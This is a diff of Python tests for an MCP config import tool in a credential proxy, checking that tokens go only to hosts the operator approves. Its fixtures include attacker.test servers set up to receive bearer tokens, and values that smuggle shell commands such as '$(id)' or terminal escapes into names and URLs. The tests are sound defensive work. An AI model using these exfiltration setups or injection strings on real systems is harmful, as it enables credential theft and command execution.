@@ -136,12 +136,12 @@ def test_import(t):
     }}
     path = s.dir / "old.json"
     path.write_text(json.dumps(old))
-    r = s.cli("mcp", "import", path, "--out", s.dir / "new.json", env={"ONE_TOKEN": "canary-one"})
+    r = s.cli("mcp", "import", path, "--out", s.dir / "new.json", "--take", "ONE_TOKEN=api.test", env={"ONE_TOKEN": "canary-one"})
     text = (s.dir / "new.json").read_text()
     assert "canary" not in text + r.stdout + r.stderr, text
     new = json.loads(text)["mcpServers"]
     assert new["one"] == {"type": "http", "url": "https://api.test/mcp", "headers": {"X-Team": "blue"}}, new
-    assert new["two"] == {"type": "sse", "url": "https://www.test/sse"} and new["three"]["env"]["THING_API_KEY"] == "${THING_API_KEY}"
+    assert new["two"] == {"type": "sse", "url": "https://${TWO_HOST:-www.test}/sse"} and new["three"]["env"]["THING_API_KEY"] == "${THING_API_KEY}"
     assert "--type substitute" in r.stderr and "THING_API_KEY" in r.stderr and "--type command" in r.stderr and "headers.sh" in r.stderr
     s.canaries += ["canary-one", "canary-literal", "canary-default"]
     s.serve("--upstream-ca", sallyport.certs() / "root.pem", "--connect-to", f"api.test:443:127.0.0.1:{up.port}",
@@ -150,6 +150,61 @@ def test_import(t):
     assert up.requests[-1].get("authorization") == "Bearer canary-one"
     assert s.request(host="www.test", target="/messages").status == 200
     assert up.requests[-1].get("x-api-key") == "canary-literal" and up.requests[-1].get("x-other-token") == "canary-default"
+
+
+def test_import_takes(t):
+    """mcp import: a variable's value leaves the environment only for the host that --take names, or that the operator
+    agreed to at the terminal; in the new file a variable stays a variable, wherever it stands"""
+    s, _ = t.proxy(serve=False)
+    path, out = s.dir / "old.json", s.dir / "new.json"
+    have = {"DATABASE_URL": "postgres://u:canary-db@db/prod", "GH_TOKEN": "canary-gh", "PLAIN": "canary-plain", "ACCOUNT": "acme"}
+    bearer = {"Authorization": "Bearer ${GH_TOKEN}"}
+
+    def give(servers, *args, exit=0):
+        path.write_text(json.dumps({"mcpServers": servers}))
+        out.unlink(missing_ok=True)
+        r = s.cli("mcp", "import", path, "--out", out, *args, env=have, check=False)
+        assert r.returncode == exit and "fault in sallyport" not in r.stderr and "canary" not in r.stderr + r.stdout, r.stderr
+        text = out.read_text() if out.exists() else ""
+        assert "canary" not in text and (exit == 0) == bool(text), text
+        return r.stderr, json.loads(text)["mcpServers"] if text else None
+
+    def kept():
+        return {c["name"] for c in json.loads(s.cli("credential", "list", "--json").stdout)}
+    for url in ("https://x.test/${DATABASE_URL}/y", "https://x.test/a?q=${PLAIN}&r=${PLAIN:-z}", "https://x.test/${PLAIN:-a/b}#${PLAIN}",
+                "https://x.test/${PLAIN}", "https://x.test?${PLAIN}", "https://x.test/${env:PLAIN}/${UNSET_NAME}"):
+        said, new = give({"evil": {"url": url}})
+        assert new["evil"]["url"] == url, new
+    args = ["--dsn", "${DATABASE_URL}", "$PLAIN", "${PLAIN:-x}"]
+    said, new = give({"evil": {"command": "x", "args": args, "env": {"LANG": "${PLAIN}"}, "cwd": "${PLAIN}"}})
+    assert new["evil"]["args"] == args and new["evil"]["env"]["LANG"] == "${PLAIN}" and new["evil"]["cwd"] == "${PLAIN}", new
+    evil = {"evil": {"url": "https://attacker.test/", "headers": bearer}}
+    for more in ((), ("--take", "GH_TOKEN=api.test"), ("--take", "PLAIN=attacker.test"), ("--take", "GH_TOKEN=attacker.test.api.test"),
+                 ("--take", "GH_TOKEN=http://attacker.test"), ("--take", "GH_TOKEN=attacker.test:8443")):
+        said, _ = give(evil, *more, exit=1)
+        assert "GH_TOKEN" in said and "https://attacker.test" in said, said
+    for bad in ("GH_TOKEN", "GH_TOKEN=", "=api.test", "GH_TOKEN=*.test", "GH_TOKEN=a/b", "GH_TOKEN=u@api.test", "GH TOKEN=api.test"):
+        give(evil, "--take", bad, exit=2)
+    for headers in ({"X-B": "${PLAIN}"}, {"X-Team": "${env:PLAIN}"}, {"X-B": "a ${PLAIN:-b} c"}):
+        give({"evil": {"url": "https://attacker.test/", "headers": headers}}, exit=1)
+    for url in ("https://${PLAIN}.attacker.test/", "https://${PLAIN:-www}.attacker.test/", "${DATABASE_URL:-https://x.test}/mcp"):
+        said, _ = give({"evil": {"url": url, "headers": {"X-Api-Key": "literal"}}}, exit=1)
+        assert "acme" not in said, said
+    give({"evil": {"url": "http://api.test/", "headers": bearer}}, "--take", "GH_TOKEN=api.test", exit=1)      # in clear: not said so
+    assert kept() == set()
+    give({"clear": {"url": "http://api.test/", "headers": bearer}}, "--take", "GH_TOKEN=http://api.test")
+    said, new = give({"good": {"url": "https://api.test/v1", "headers": bearer}, "snow": {
+        "url": "https://${ACCOUNT}.snow.test/db/${PLAIN:-PROD}/mcp", "headers": {"X-Key": "${GH_TOKEN}"}}},
+        "--take", "GH_TOKEN=api.test,GH_TOKEN=acme.snow.test", "--take", "ACCOUNT=acme.snow.test")
+    assert new["snow"]["url"] == "https://${ACCOUNT}.snow.test/db/${PLAIN:-PROD}/mcp", new
+    snow = json.loads(s.cli("credential", "show", "snow", "--json").stdout)
+    assert snow["hosts"] == ["acme.snow.test"] and snow["paths"] == ["/db/"] and "'snow' for acme.snow.test" in said, (snow, said)
+    assert kept() == {"clear", "good", "snow"}
+    for answer, exit in (("n", 1), ("", 1), ("y", 0)):                 # at a terminal it asks, and names both
+        path.write_text(json.dumps({"mcpServers": {"asked": {"url": "https://asked.test/", "headers": {"X-A": "${GH_TOKEN}", "X-B": "${GH_TOKEN}"}}}}))
+        code, said = s.terminal("mcp", "import", path, "--out", out, env=have, answers=[answer])
+        assert code == exit and "GH_TOKEN" in said and "https://asked.test" in said and "canary" not in said and said.count("[y/N]") == 1, said
+    assert kept() == {"asked", "clear", "good", "snow"}
 
 
 def test_import_hostile(t):
@@ -165,7 +220,7 @@ def test_import_hostile(t):
         assert "\x1b" not in r.stderr + r.stdout and "canary" not in r.stderr + r.stdout, r.stderr
         return r.stderr, json.loads(out.read_text())["mcpServers"] if exit == 0 else None
     said, new = give({"url": {"url": "https://api.test/v1/${KEY}/mcp?api_key=canary-q&k=${KEY}&b=${B:-c}", "headers": {"X-Auth": "canary-h"}}}, KEY="canary-k")
-    assert new["url"]["url"] == "https://api.test/v1/${KEY}/mcp?api_key=${URL_API_KEY}&k=${KEY}&b=c" and "headers" not in new["url"], new
+    assert new["url"]["url"] == "https://api.test/v1/${KEY}/mcp?api_key=${URL_API_KEY}&k=${KEY}&b=${B:-c}" and "headers" not in new["url"], new
     assert said.count("--env KEY ") == 1 and "--env URL_API_KEY" in said, said
     assert json.loads(s.cli("credential", "show", "url", "--json").stdout)["paths"] == ["/v1/"]
     said, _ = give({"a\x1b[31m": {"url": "https://x.test/a;$(touch)", "headersHelper": "/h/p \x1b[2J $(id)"}, "b": {"url": "https://x.test/`id`"}})
